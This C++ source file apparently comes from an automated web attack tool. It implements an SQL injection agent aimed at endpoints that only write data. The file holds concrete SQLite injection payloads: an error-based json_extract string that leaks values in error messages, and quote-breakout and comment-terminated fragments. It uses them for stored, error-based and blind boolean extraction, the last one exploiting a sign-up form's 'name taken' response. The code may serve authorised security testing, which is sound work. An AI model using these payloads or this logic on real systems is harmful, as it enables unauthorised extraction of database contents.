// sql-error: statements that only write. Three ways to see inside all the same: a sub-query that
// is stored and read back, a message that carries a value, and failing or not as one bit.
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/intrusion.h"
#include "core/attack/session.h"
#include "core/attack/write_entry.h"

namespace parapet::attack {
namespace {

// An SQLite message that names its argument: "JSON path error near '4711'".
constexpr std::string_view kTelling = "json_extract(char(123,125),(";
constexpr std::string_view kTellingEnd = "))";

class SqlError final : public Agent {
    void run(Target& target) override {
        std::string const signup = option_or(target, option::kSignup, "signup");
        for (Endpoint const* endpoint : endpoints_to_try(target)) {
            if (endpoint->parameters.empty() || endpoint->method == "GET") continue;
            WriteEntry entry(target, *endpoint);
            if (try_visible(target, entry)) return;
            bool const ask_first = endpoint->id == signup;
            if (ask_first && all_data_) continue;
            if (ask_first && try_taken_name(target, *endpoint)) return;
            if (ask_first && !suspicious(entry)) continue;
            if (try_bits(target, *endpoint)) return;
        }
    }

    bool try_visible(Target& target, WriteEntry& entry) {
        all_data_ = true;
        std::vector<WriteEntry::Frame> data;  // whose text stayed what it was
        for (WriteEntry::Frame const& frame : entry.frames()) {
            bool const known = std::any_of(data.begin(), data.end(), [&](auto const& other) {
                bool const says_enough = other.quotes == WriteEntry::Quotes::Every ||
                                         frame.quotes == WriteEntry::Quotes::Plain;
                return other.parameters == frame.parameters && says_enough;
            });
            if (known && frame.dress == Dress::Plain) continue;
            Seen const seen = entry.look(frame, "", "");
            if (seen == Seen::Value) {
                target.note("What a sub-query gives is stored and can be read back.");
                entry.loot(frame, "", "");
                return true;
            }
            if (seen == Seen::Data) {
                data.push_back(frame);
                continue;
            }
            bool const may_be_refused =
                frame.dress != Dress::Plain || frame.quotes == WriteEntry::Quotes::Every;
            if (seen == Seen::Refused && may_be_refused) continue;
            all_data_ = false;
            if (entry.look(frame, kTelling, kTellingEnd) != Seen::Value) continue;
            target.note("The error message holds a value out of the database.");
            entry.loot(frame, kTelling, kTellingEnd);
            return true;
        }
        return false;
    }

    // At sign-up, where every request costs the app a hash, bits are only asked for after a sign.
    static bool suspicious(WriteEntry& entry) {
        for (WriteEntry::Frame const& frame : entry.frames()) {
            if (entry.fails_on_purpose(frame)) return true;
        }
        return false;
    }

    static bool try_bits(Target& target, Endpoint const& endpoint) {
        for (std::size_t i = 0; i < endpoint.parameters.size(); ++i) {
            DirectEntry entry(target, {&endpoint, i});
            std::vector<Frame> const frames =
                WriteEntry::bit_frames(endpoint.parameters[i], random_word(target, 6));
            if (intrude(entry, {frames, {}})) return true;
        }
        return false;
    }

    // Errors may be hidden; that a name is taken is not. The condition decides between a name that
    // is taken (the word's, once the first such request has made it so) and one never seen.
    static bool try_taken_name(Target& target, Endpoint const& signup) {
        std::size_t const username = username_parameter(signup);
        if (username == signup.parameters.size()) return false;
        std::string const taken = target.surface().attacker.username;
        std::string const word = random_word(target, 8);
        std::string const random = "substr(hex(randomblob(9)),1,18*((";
        Frame const once{taken + "'||" + random, ")=0))||'"};
        Frame const doubled{word + "''||" + random, ")=0))||'"};
        Frame const cut{word + "'||" + random, ")=0)),1)--"};
        for (Dress dress : {Dress::Plain, Dress::Array}) {
            DirectEntry entry(target, {&signup, username}, dress);
            entry.keep_as_it_is(taken);
            if (intrude(entry, {{once, doubled, doubled, cut, cut}, {}})) return true;
        }
        return false;
    }

    bool all_data_ = false;  // every text came back as it was sent
};

}  // namespace

std::unique_ptr<Agent> make_sql_error() { return std::make_unique<SqlError>(); }

}  // namespace parapet::attack
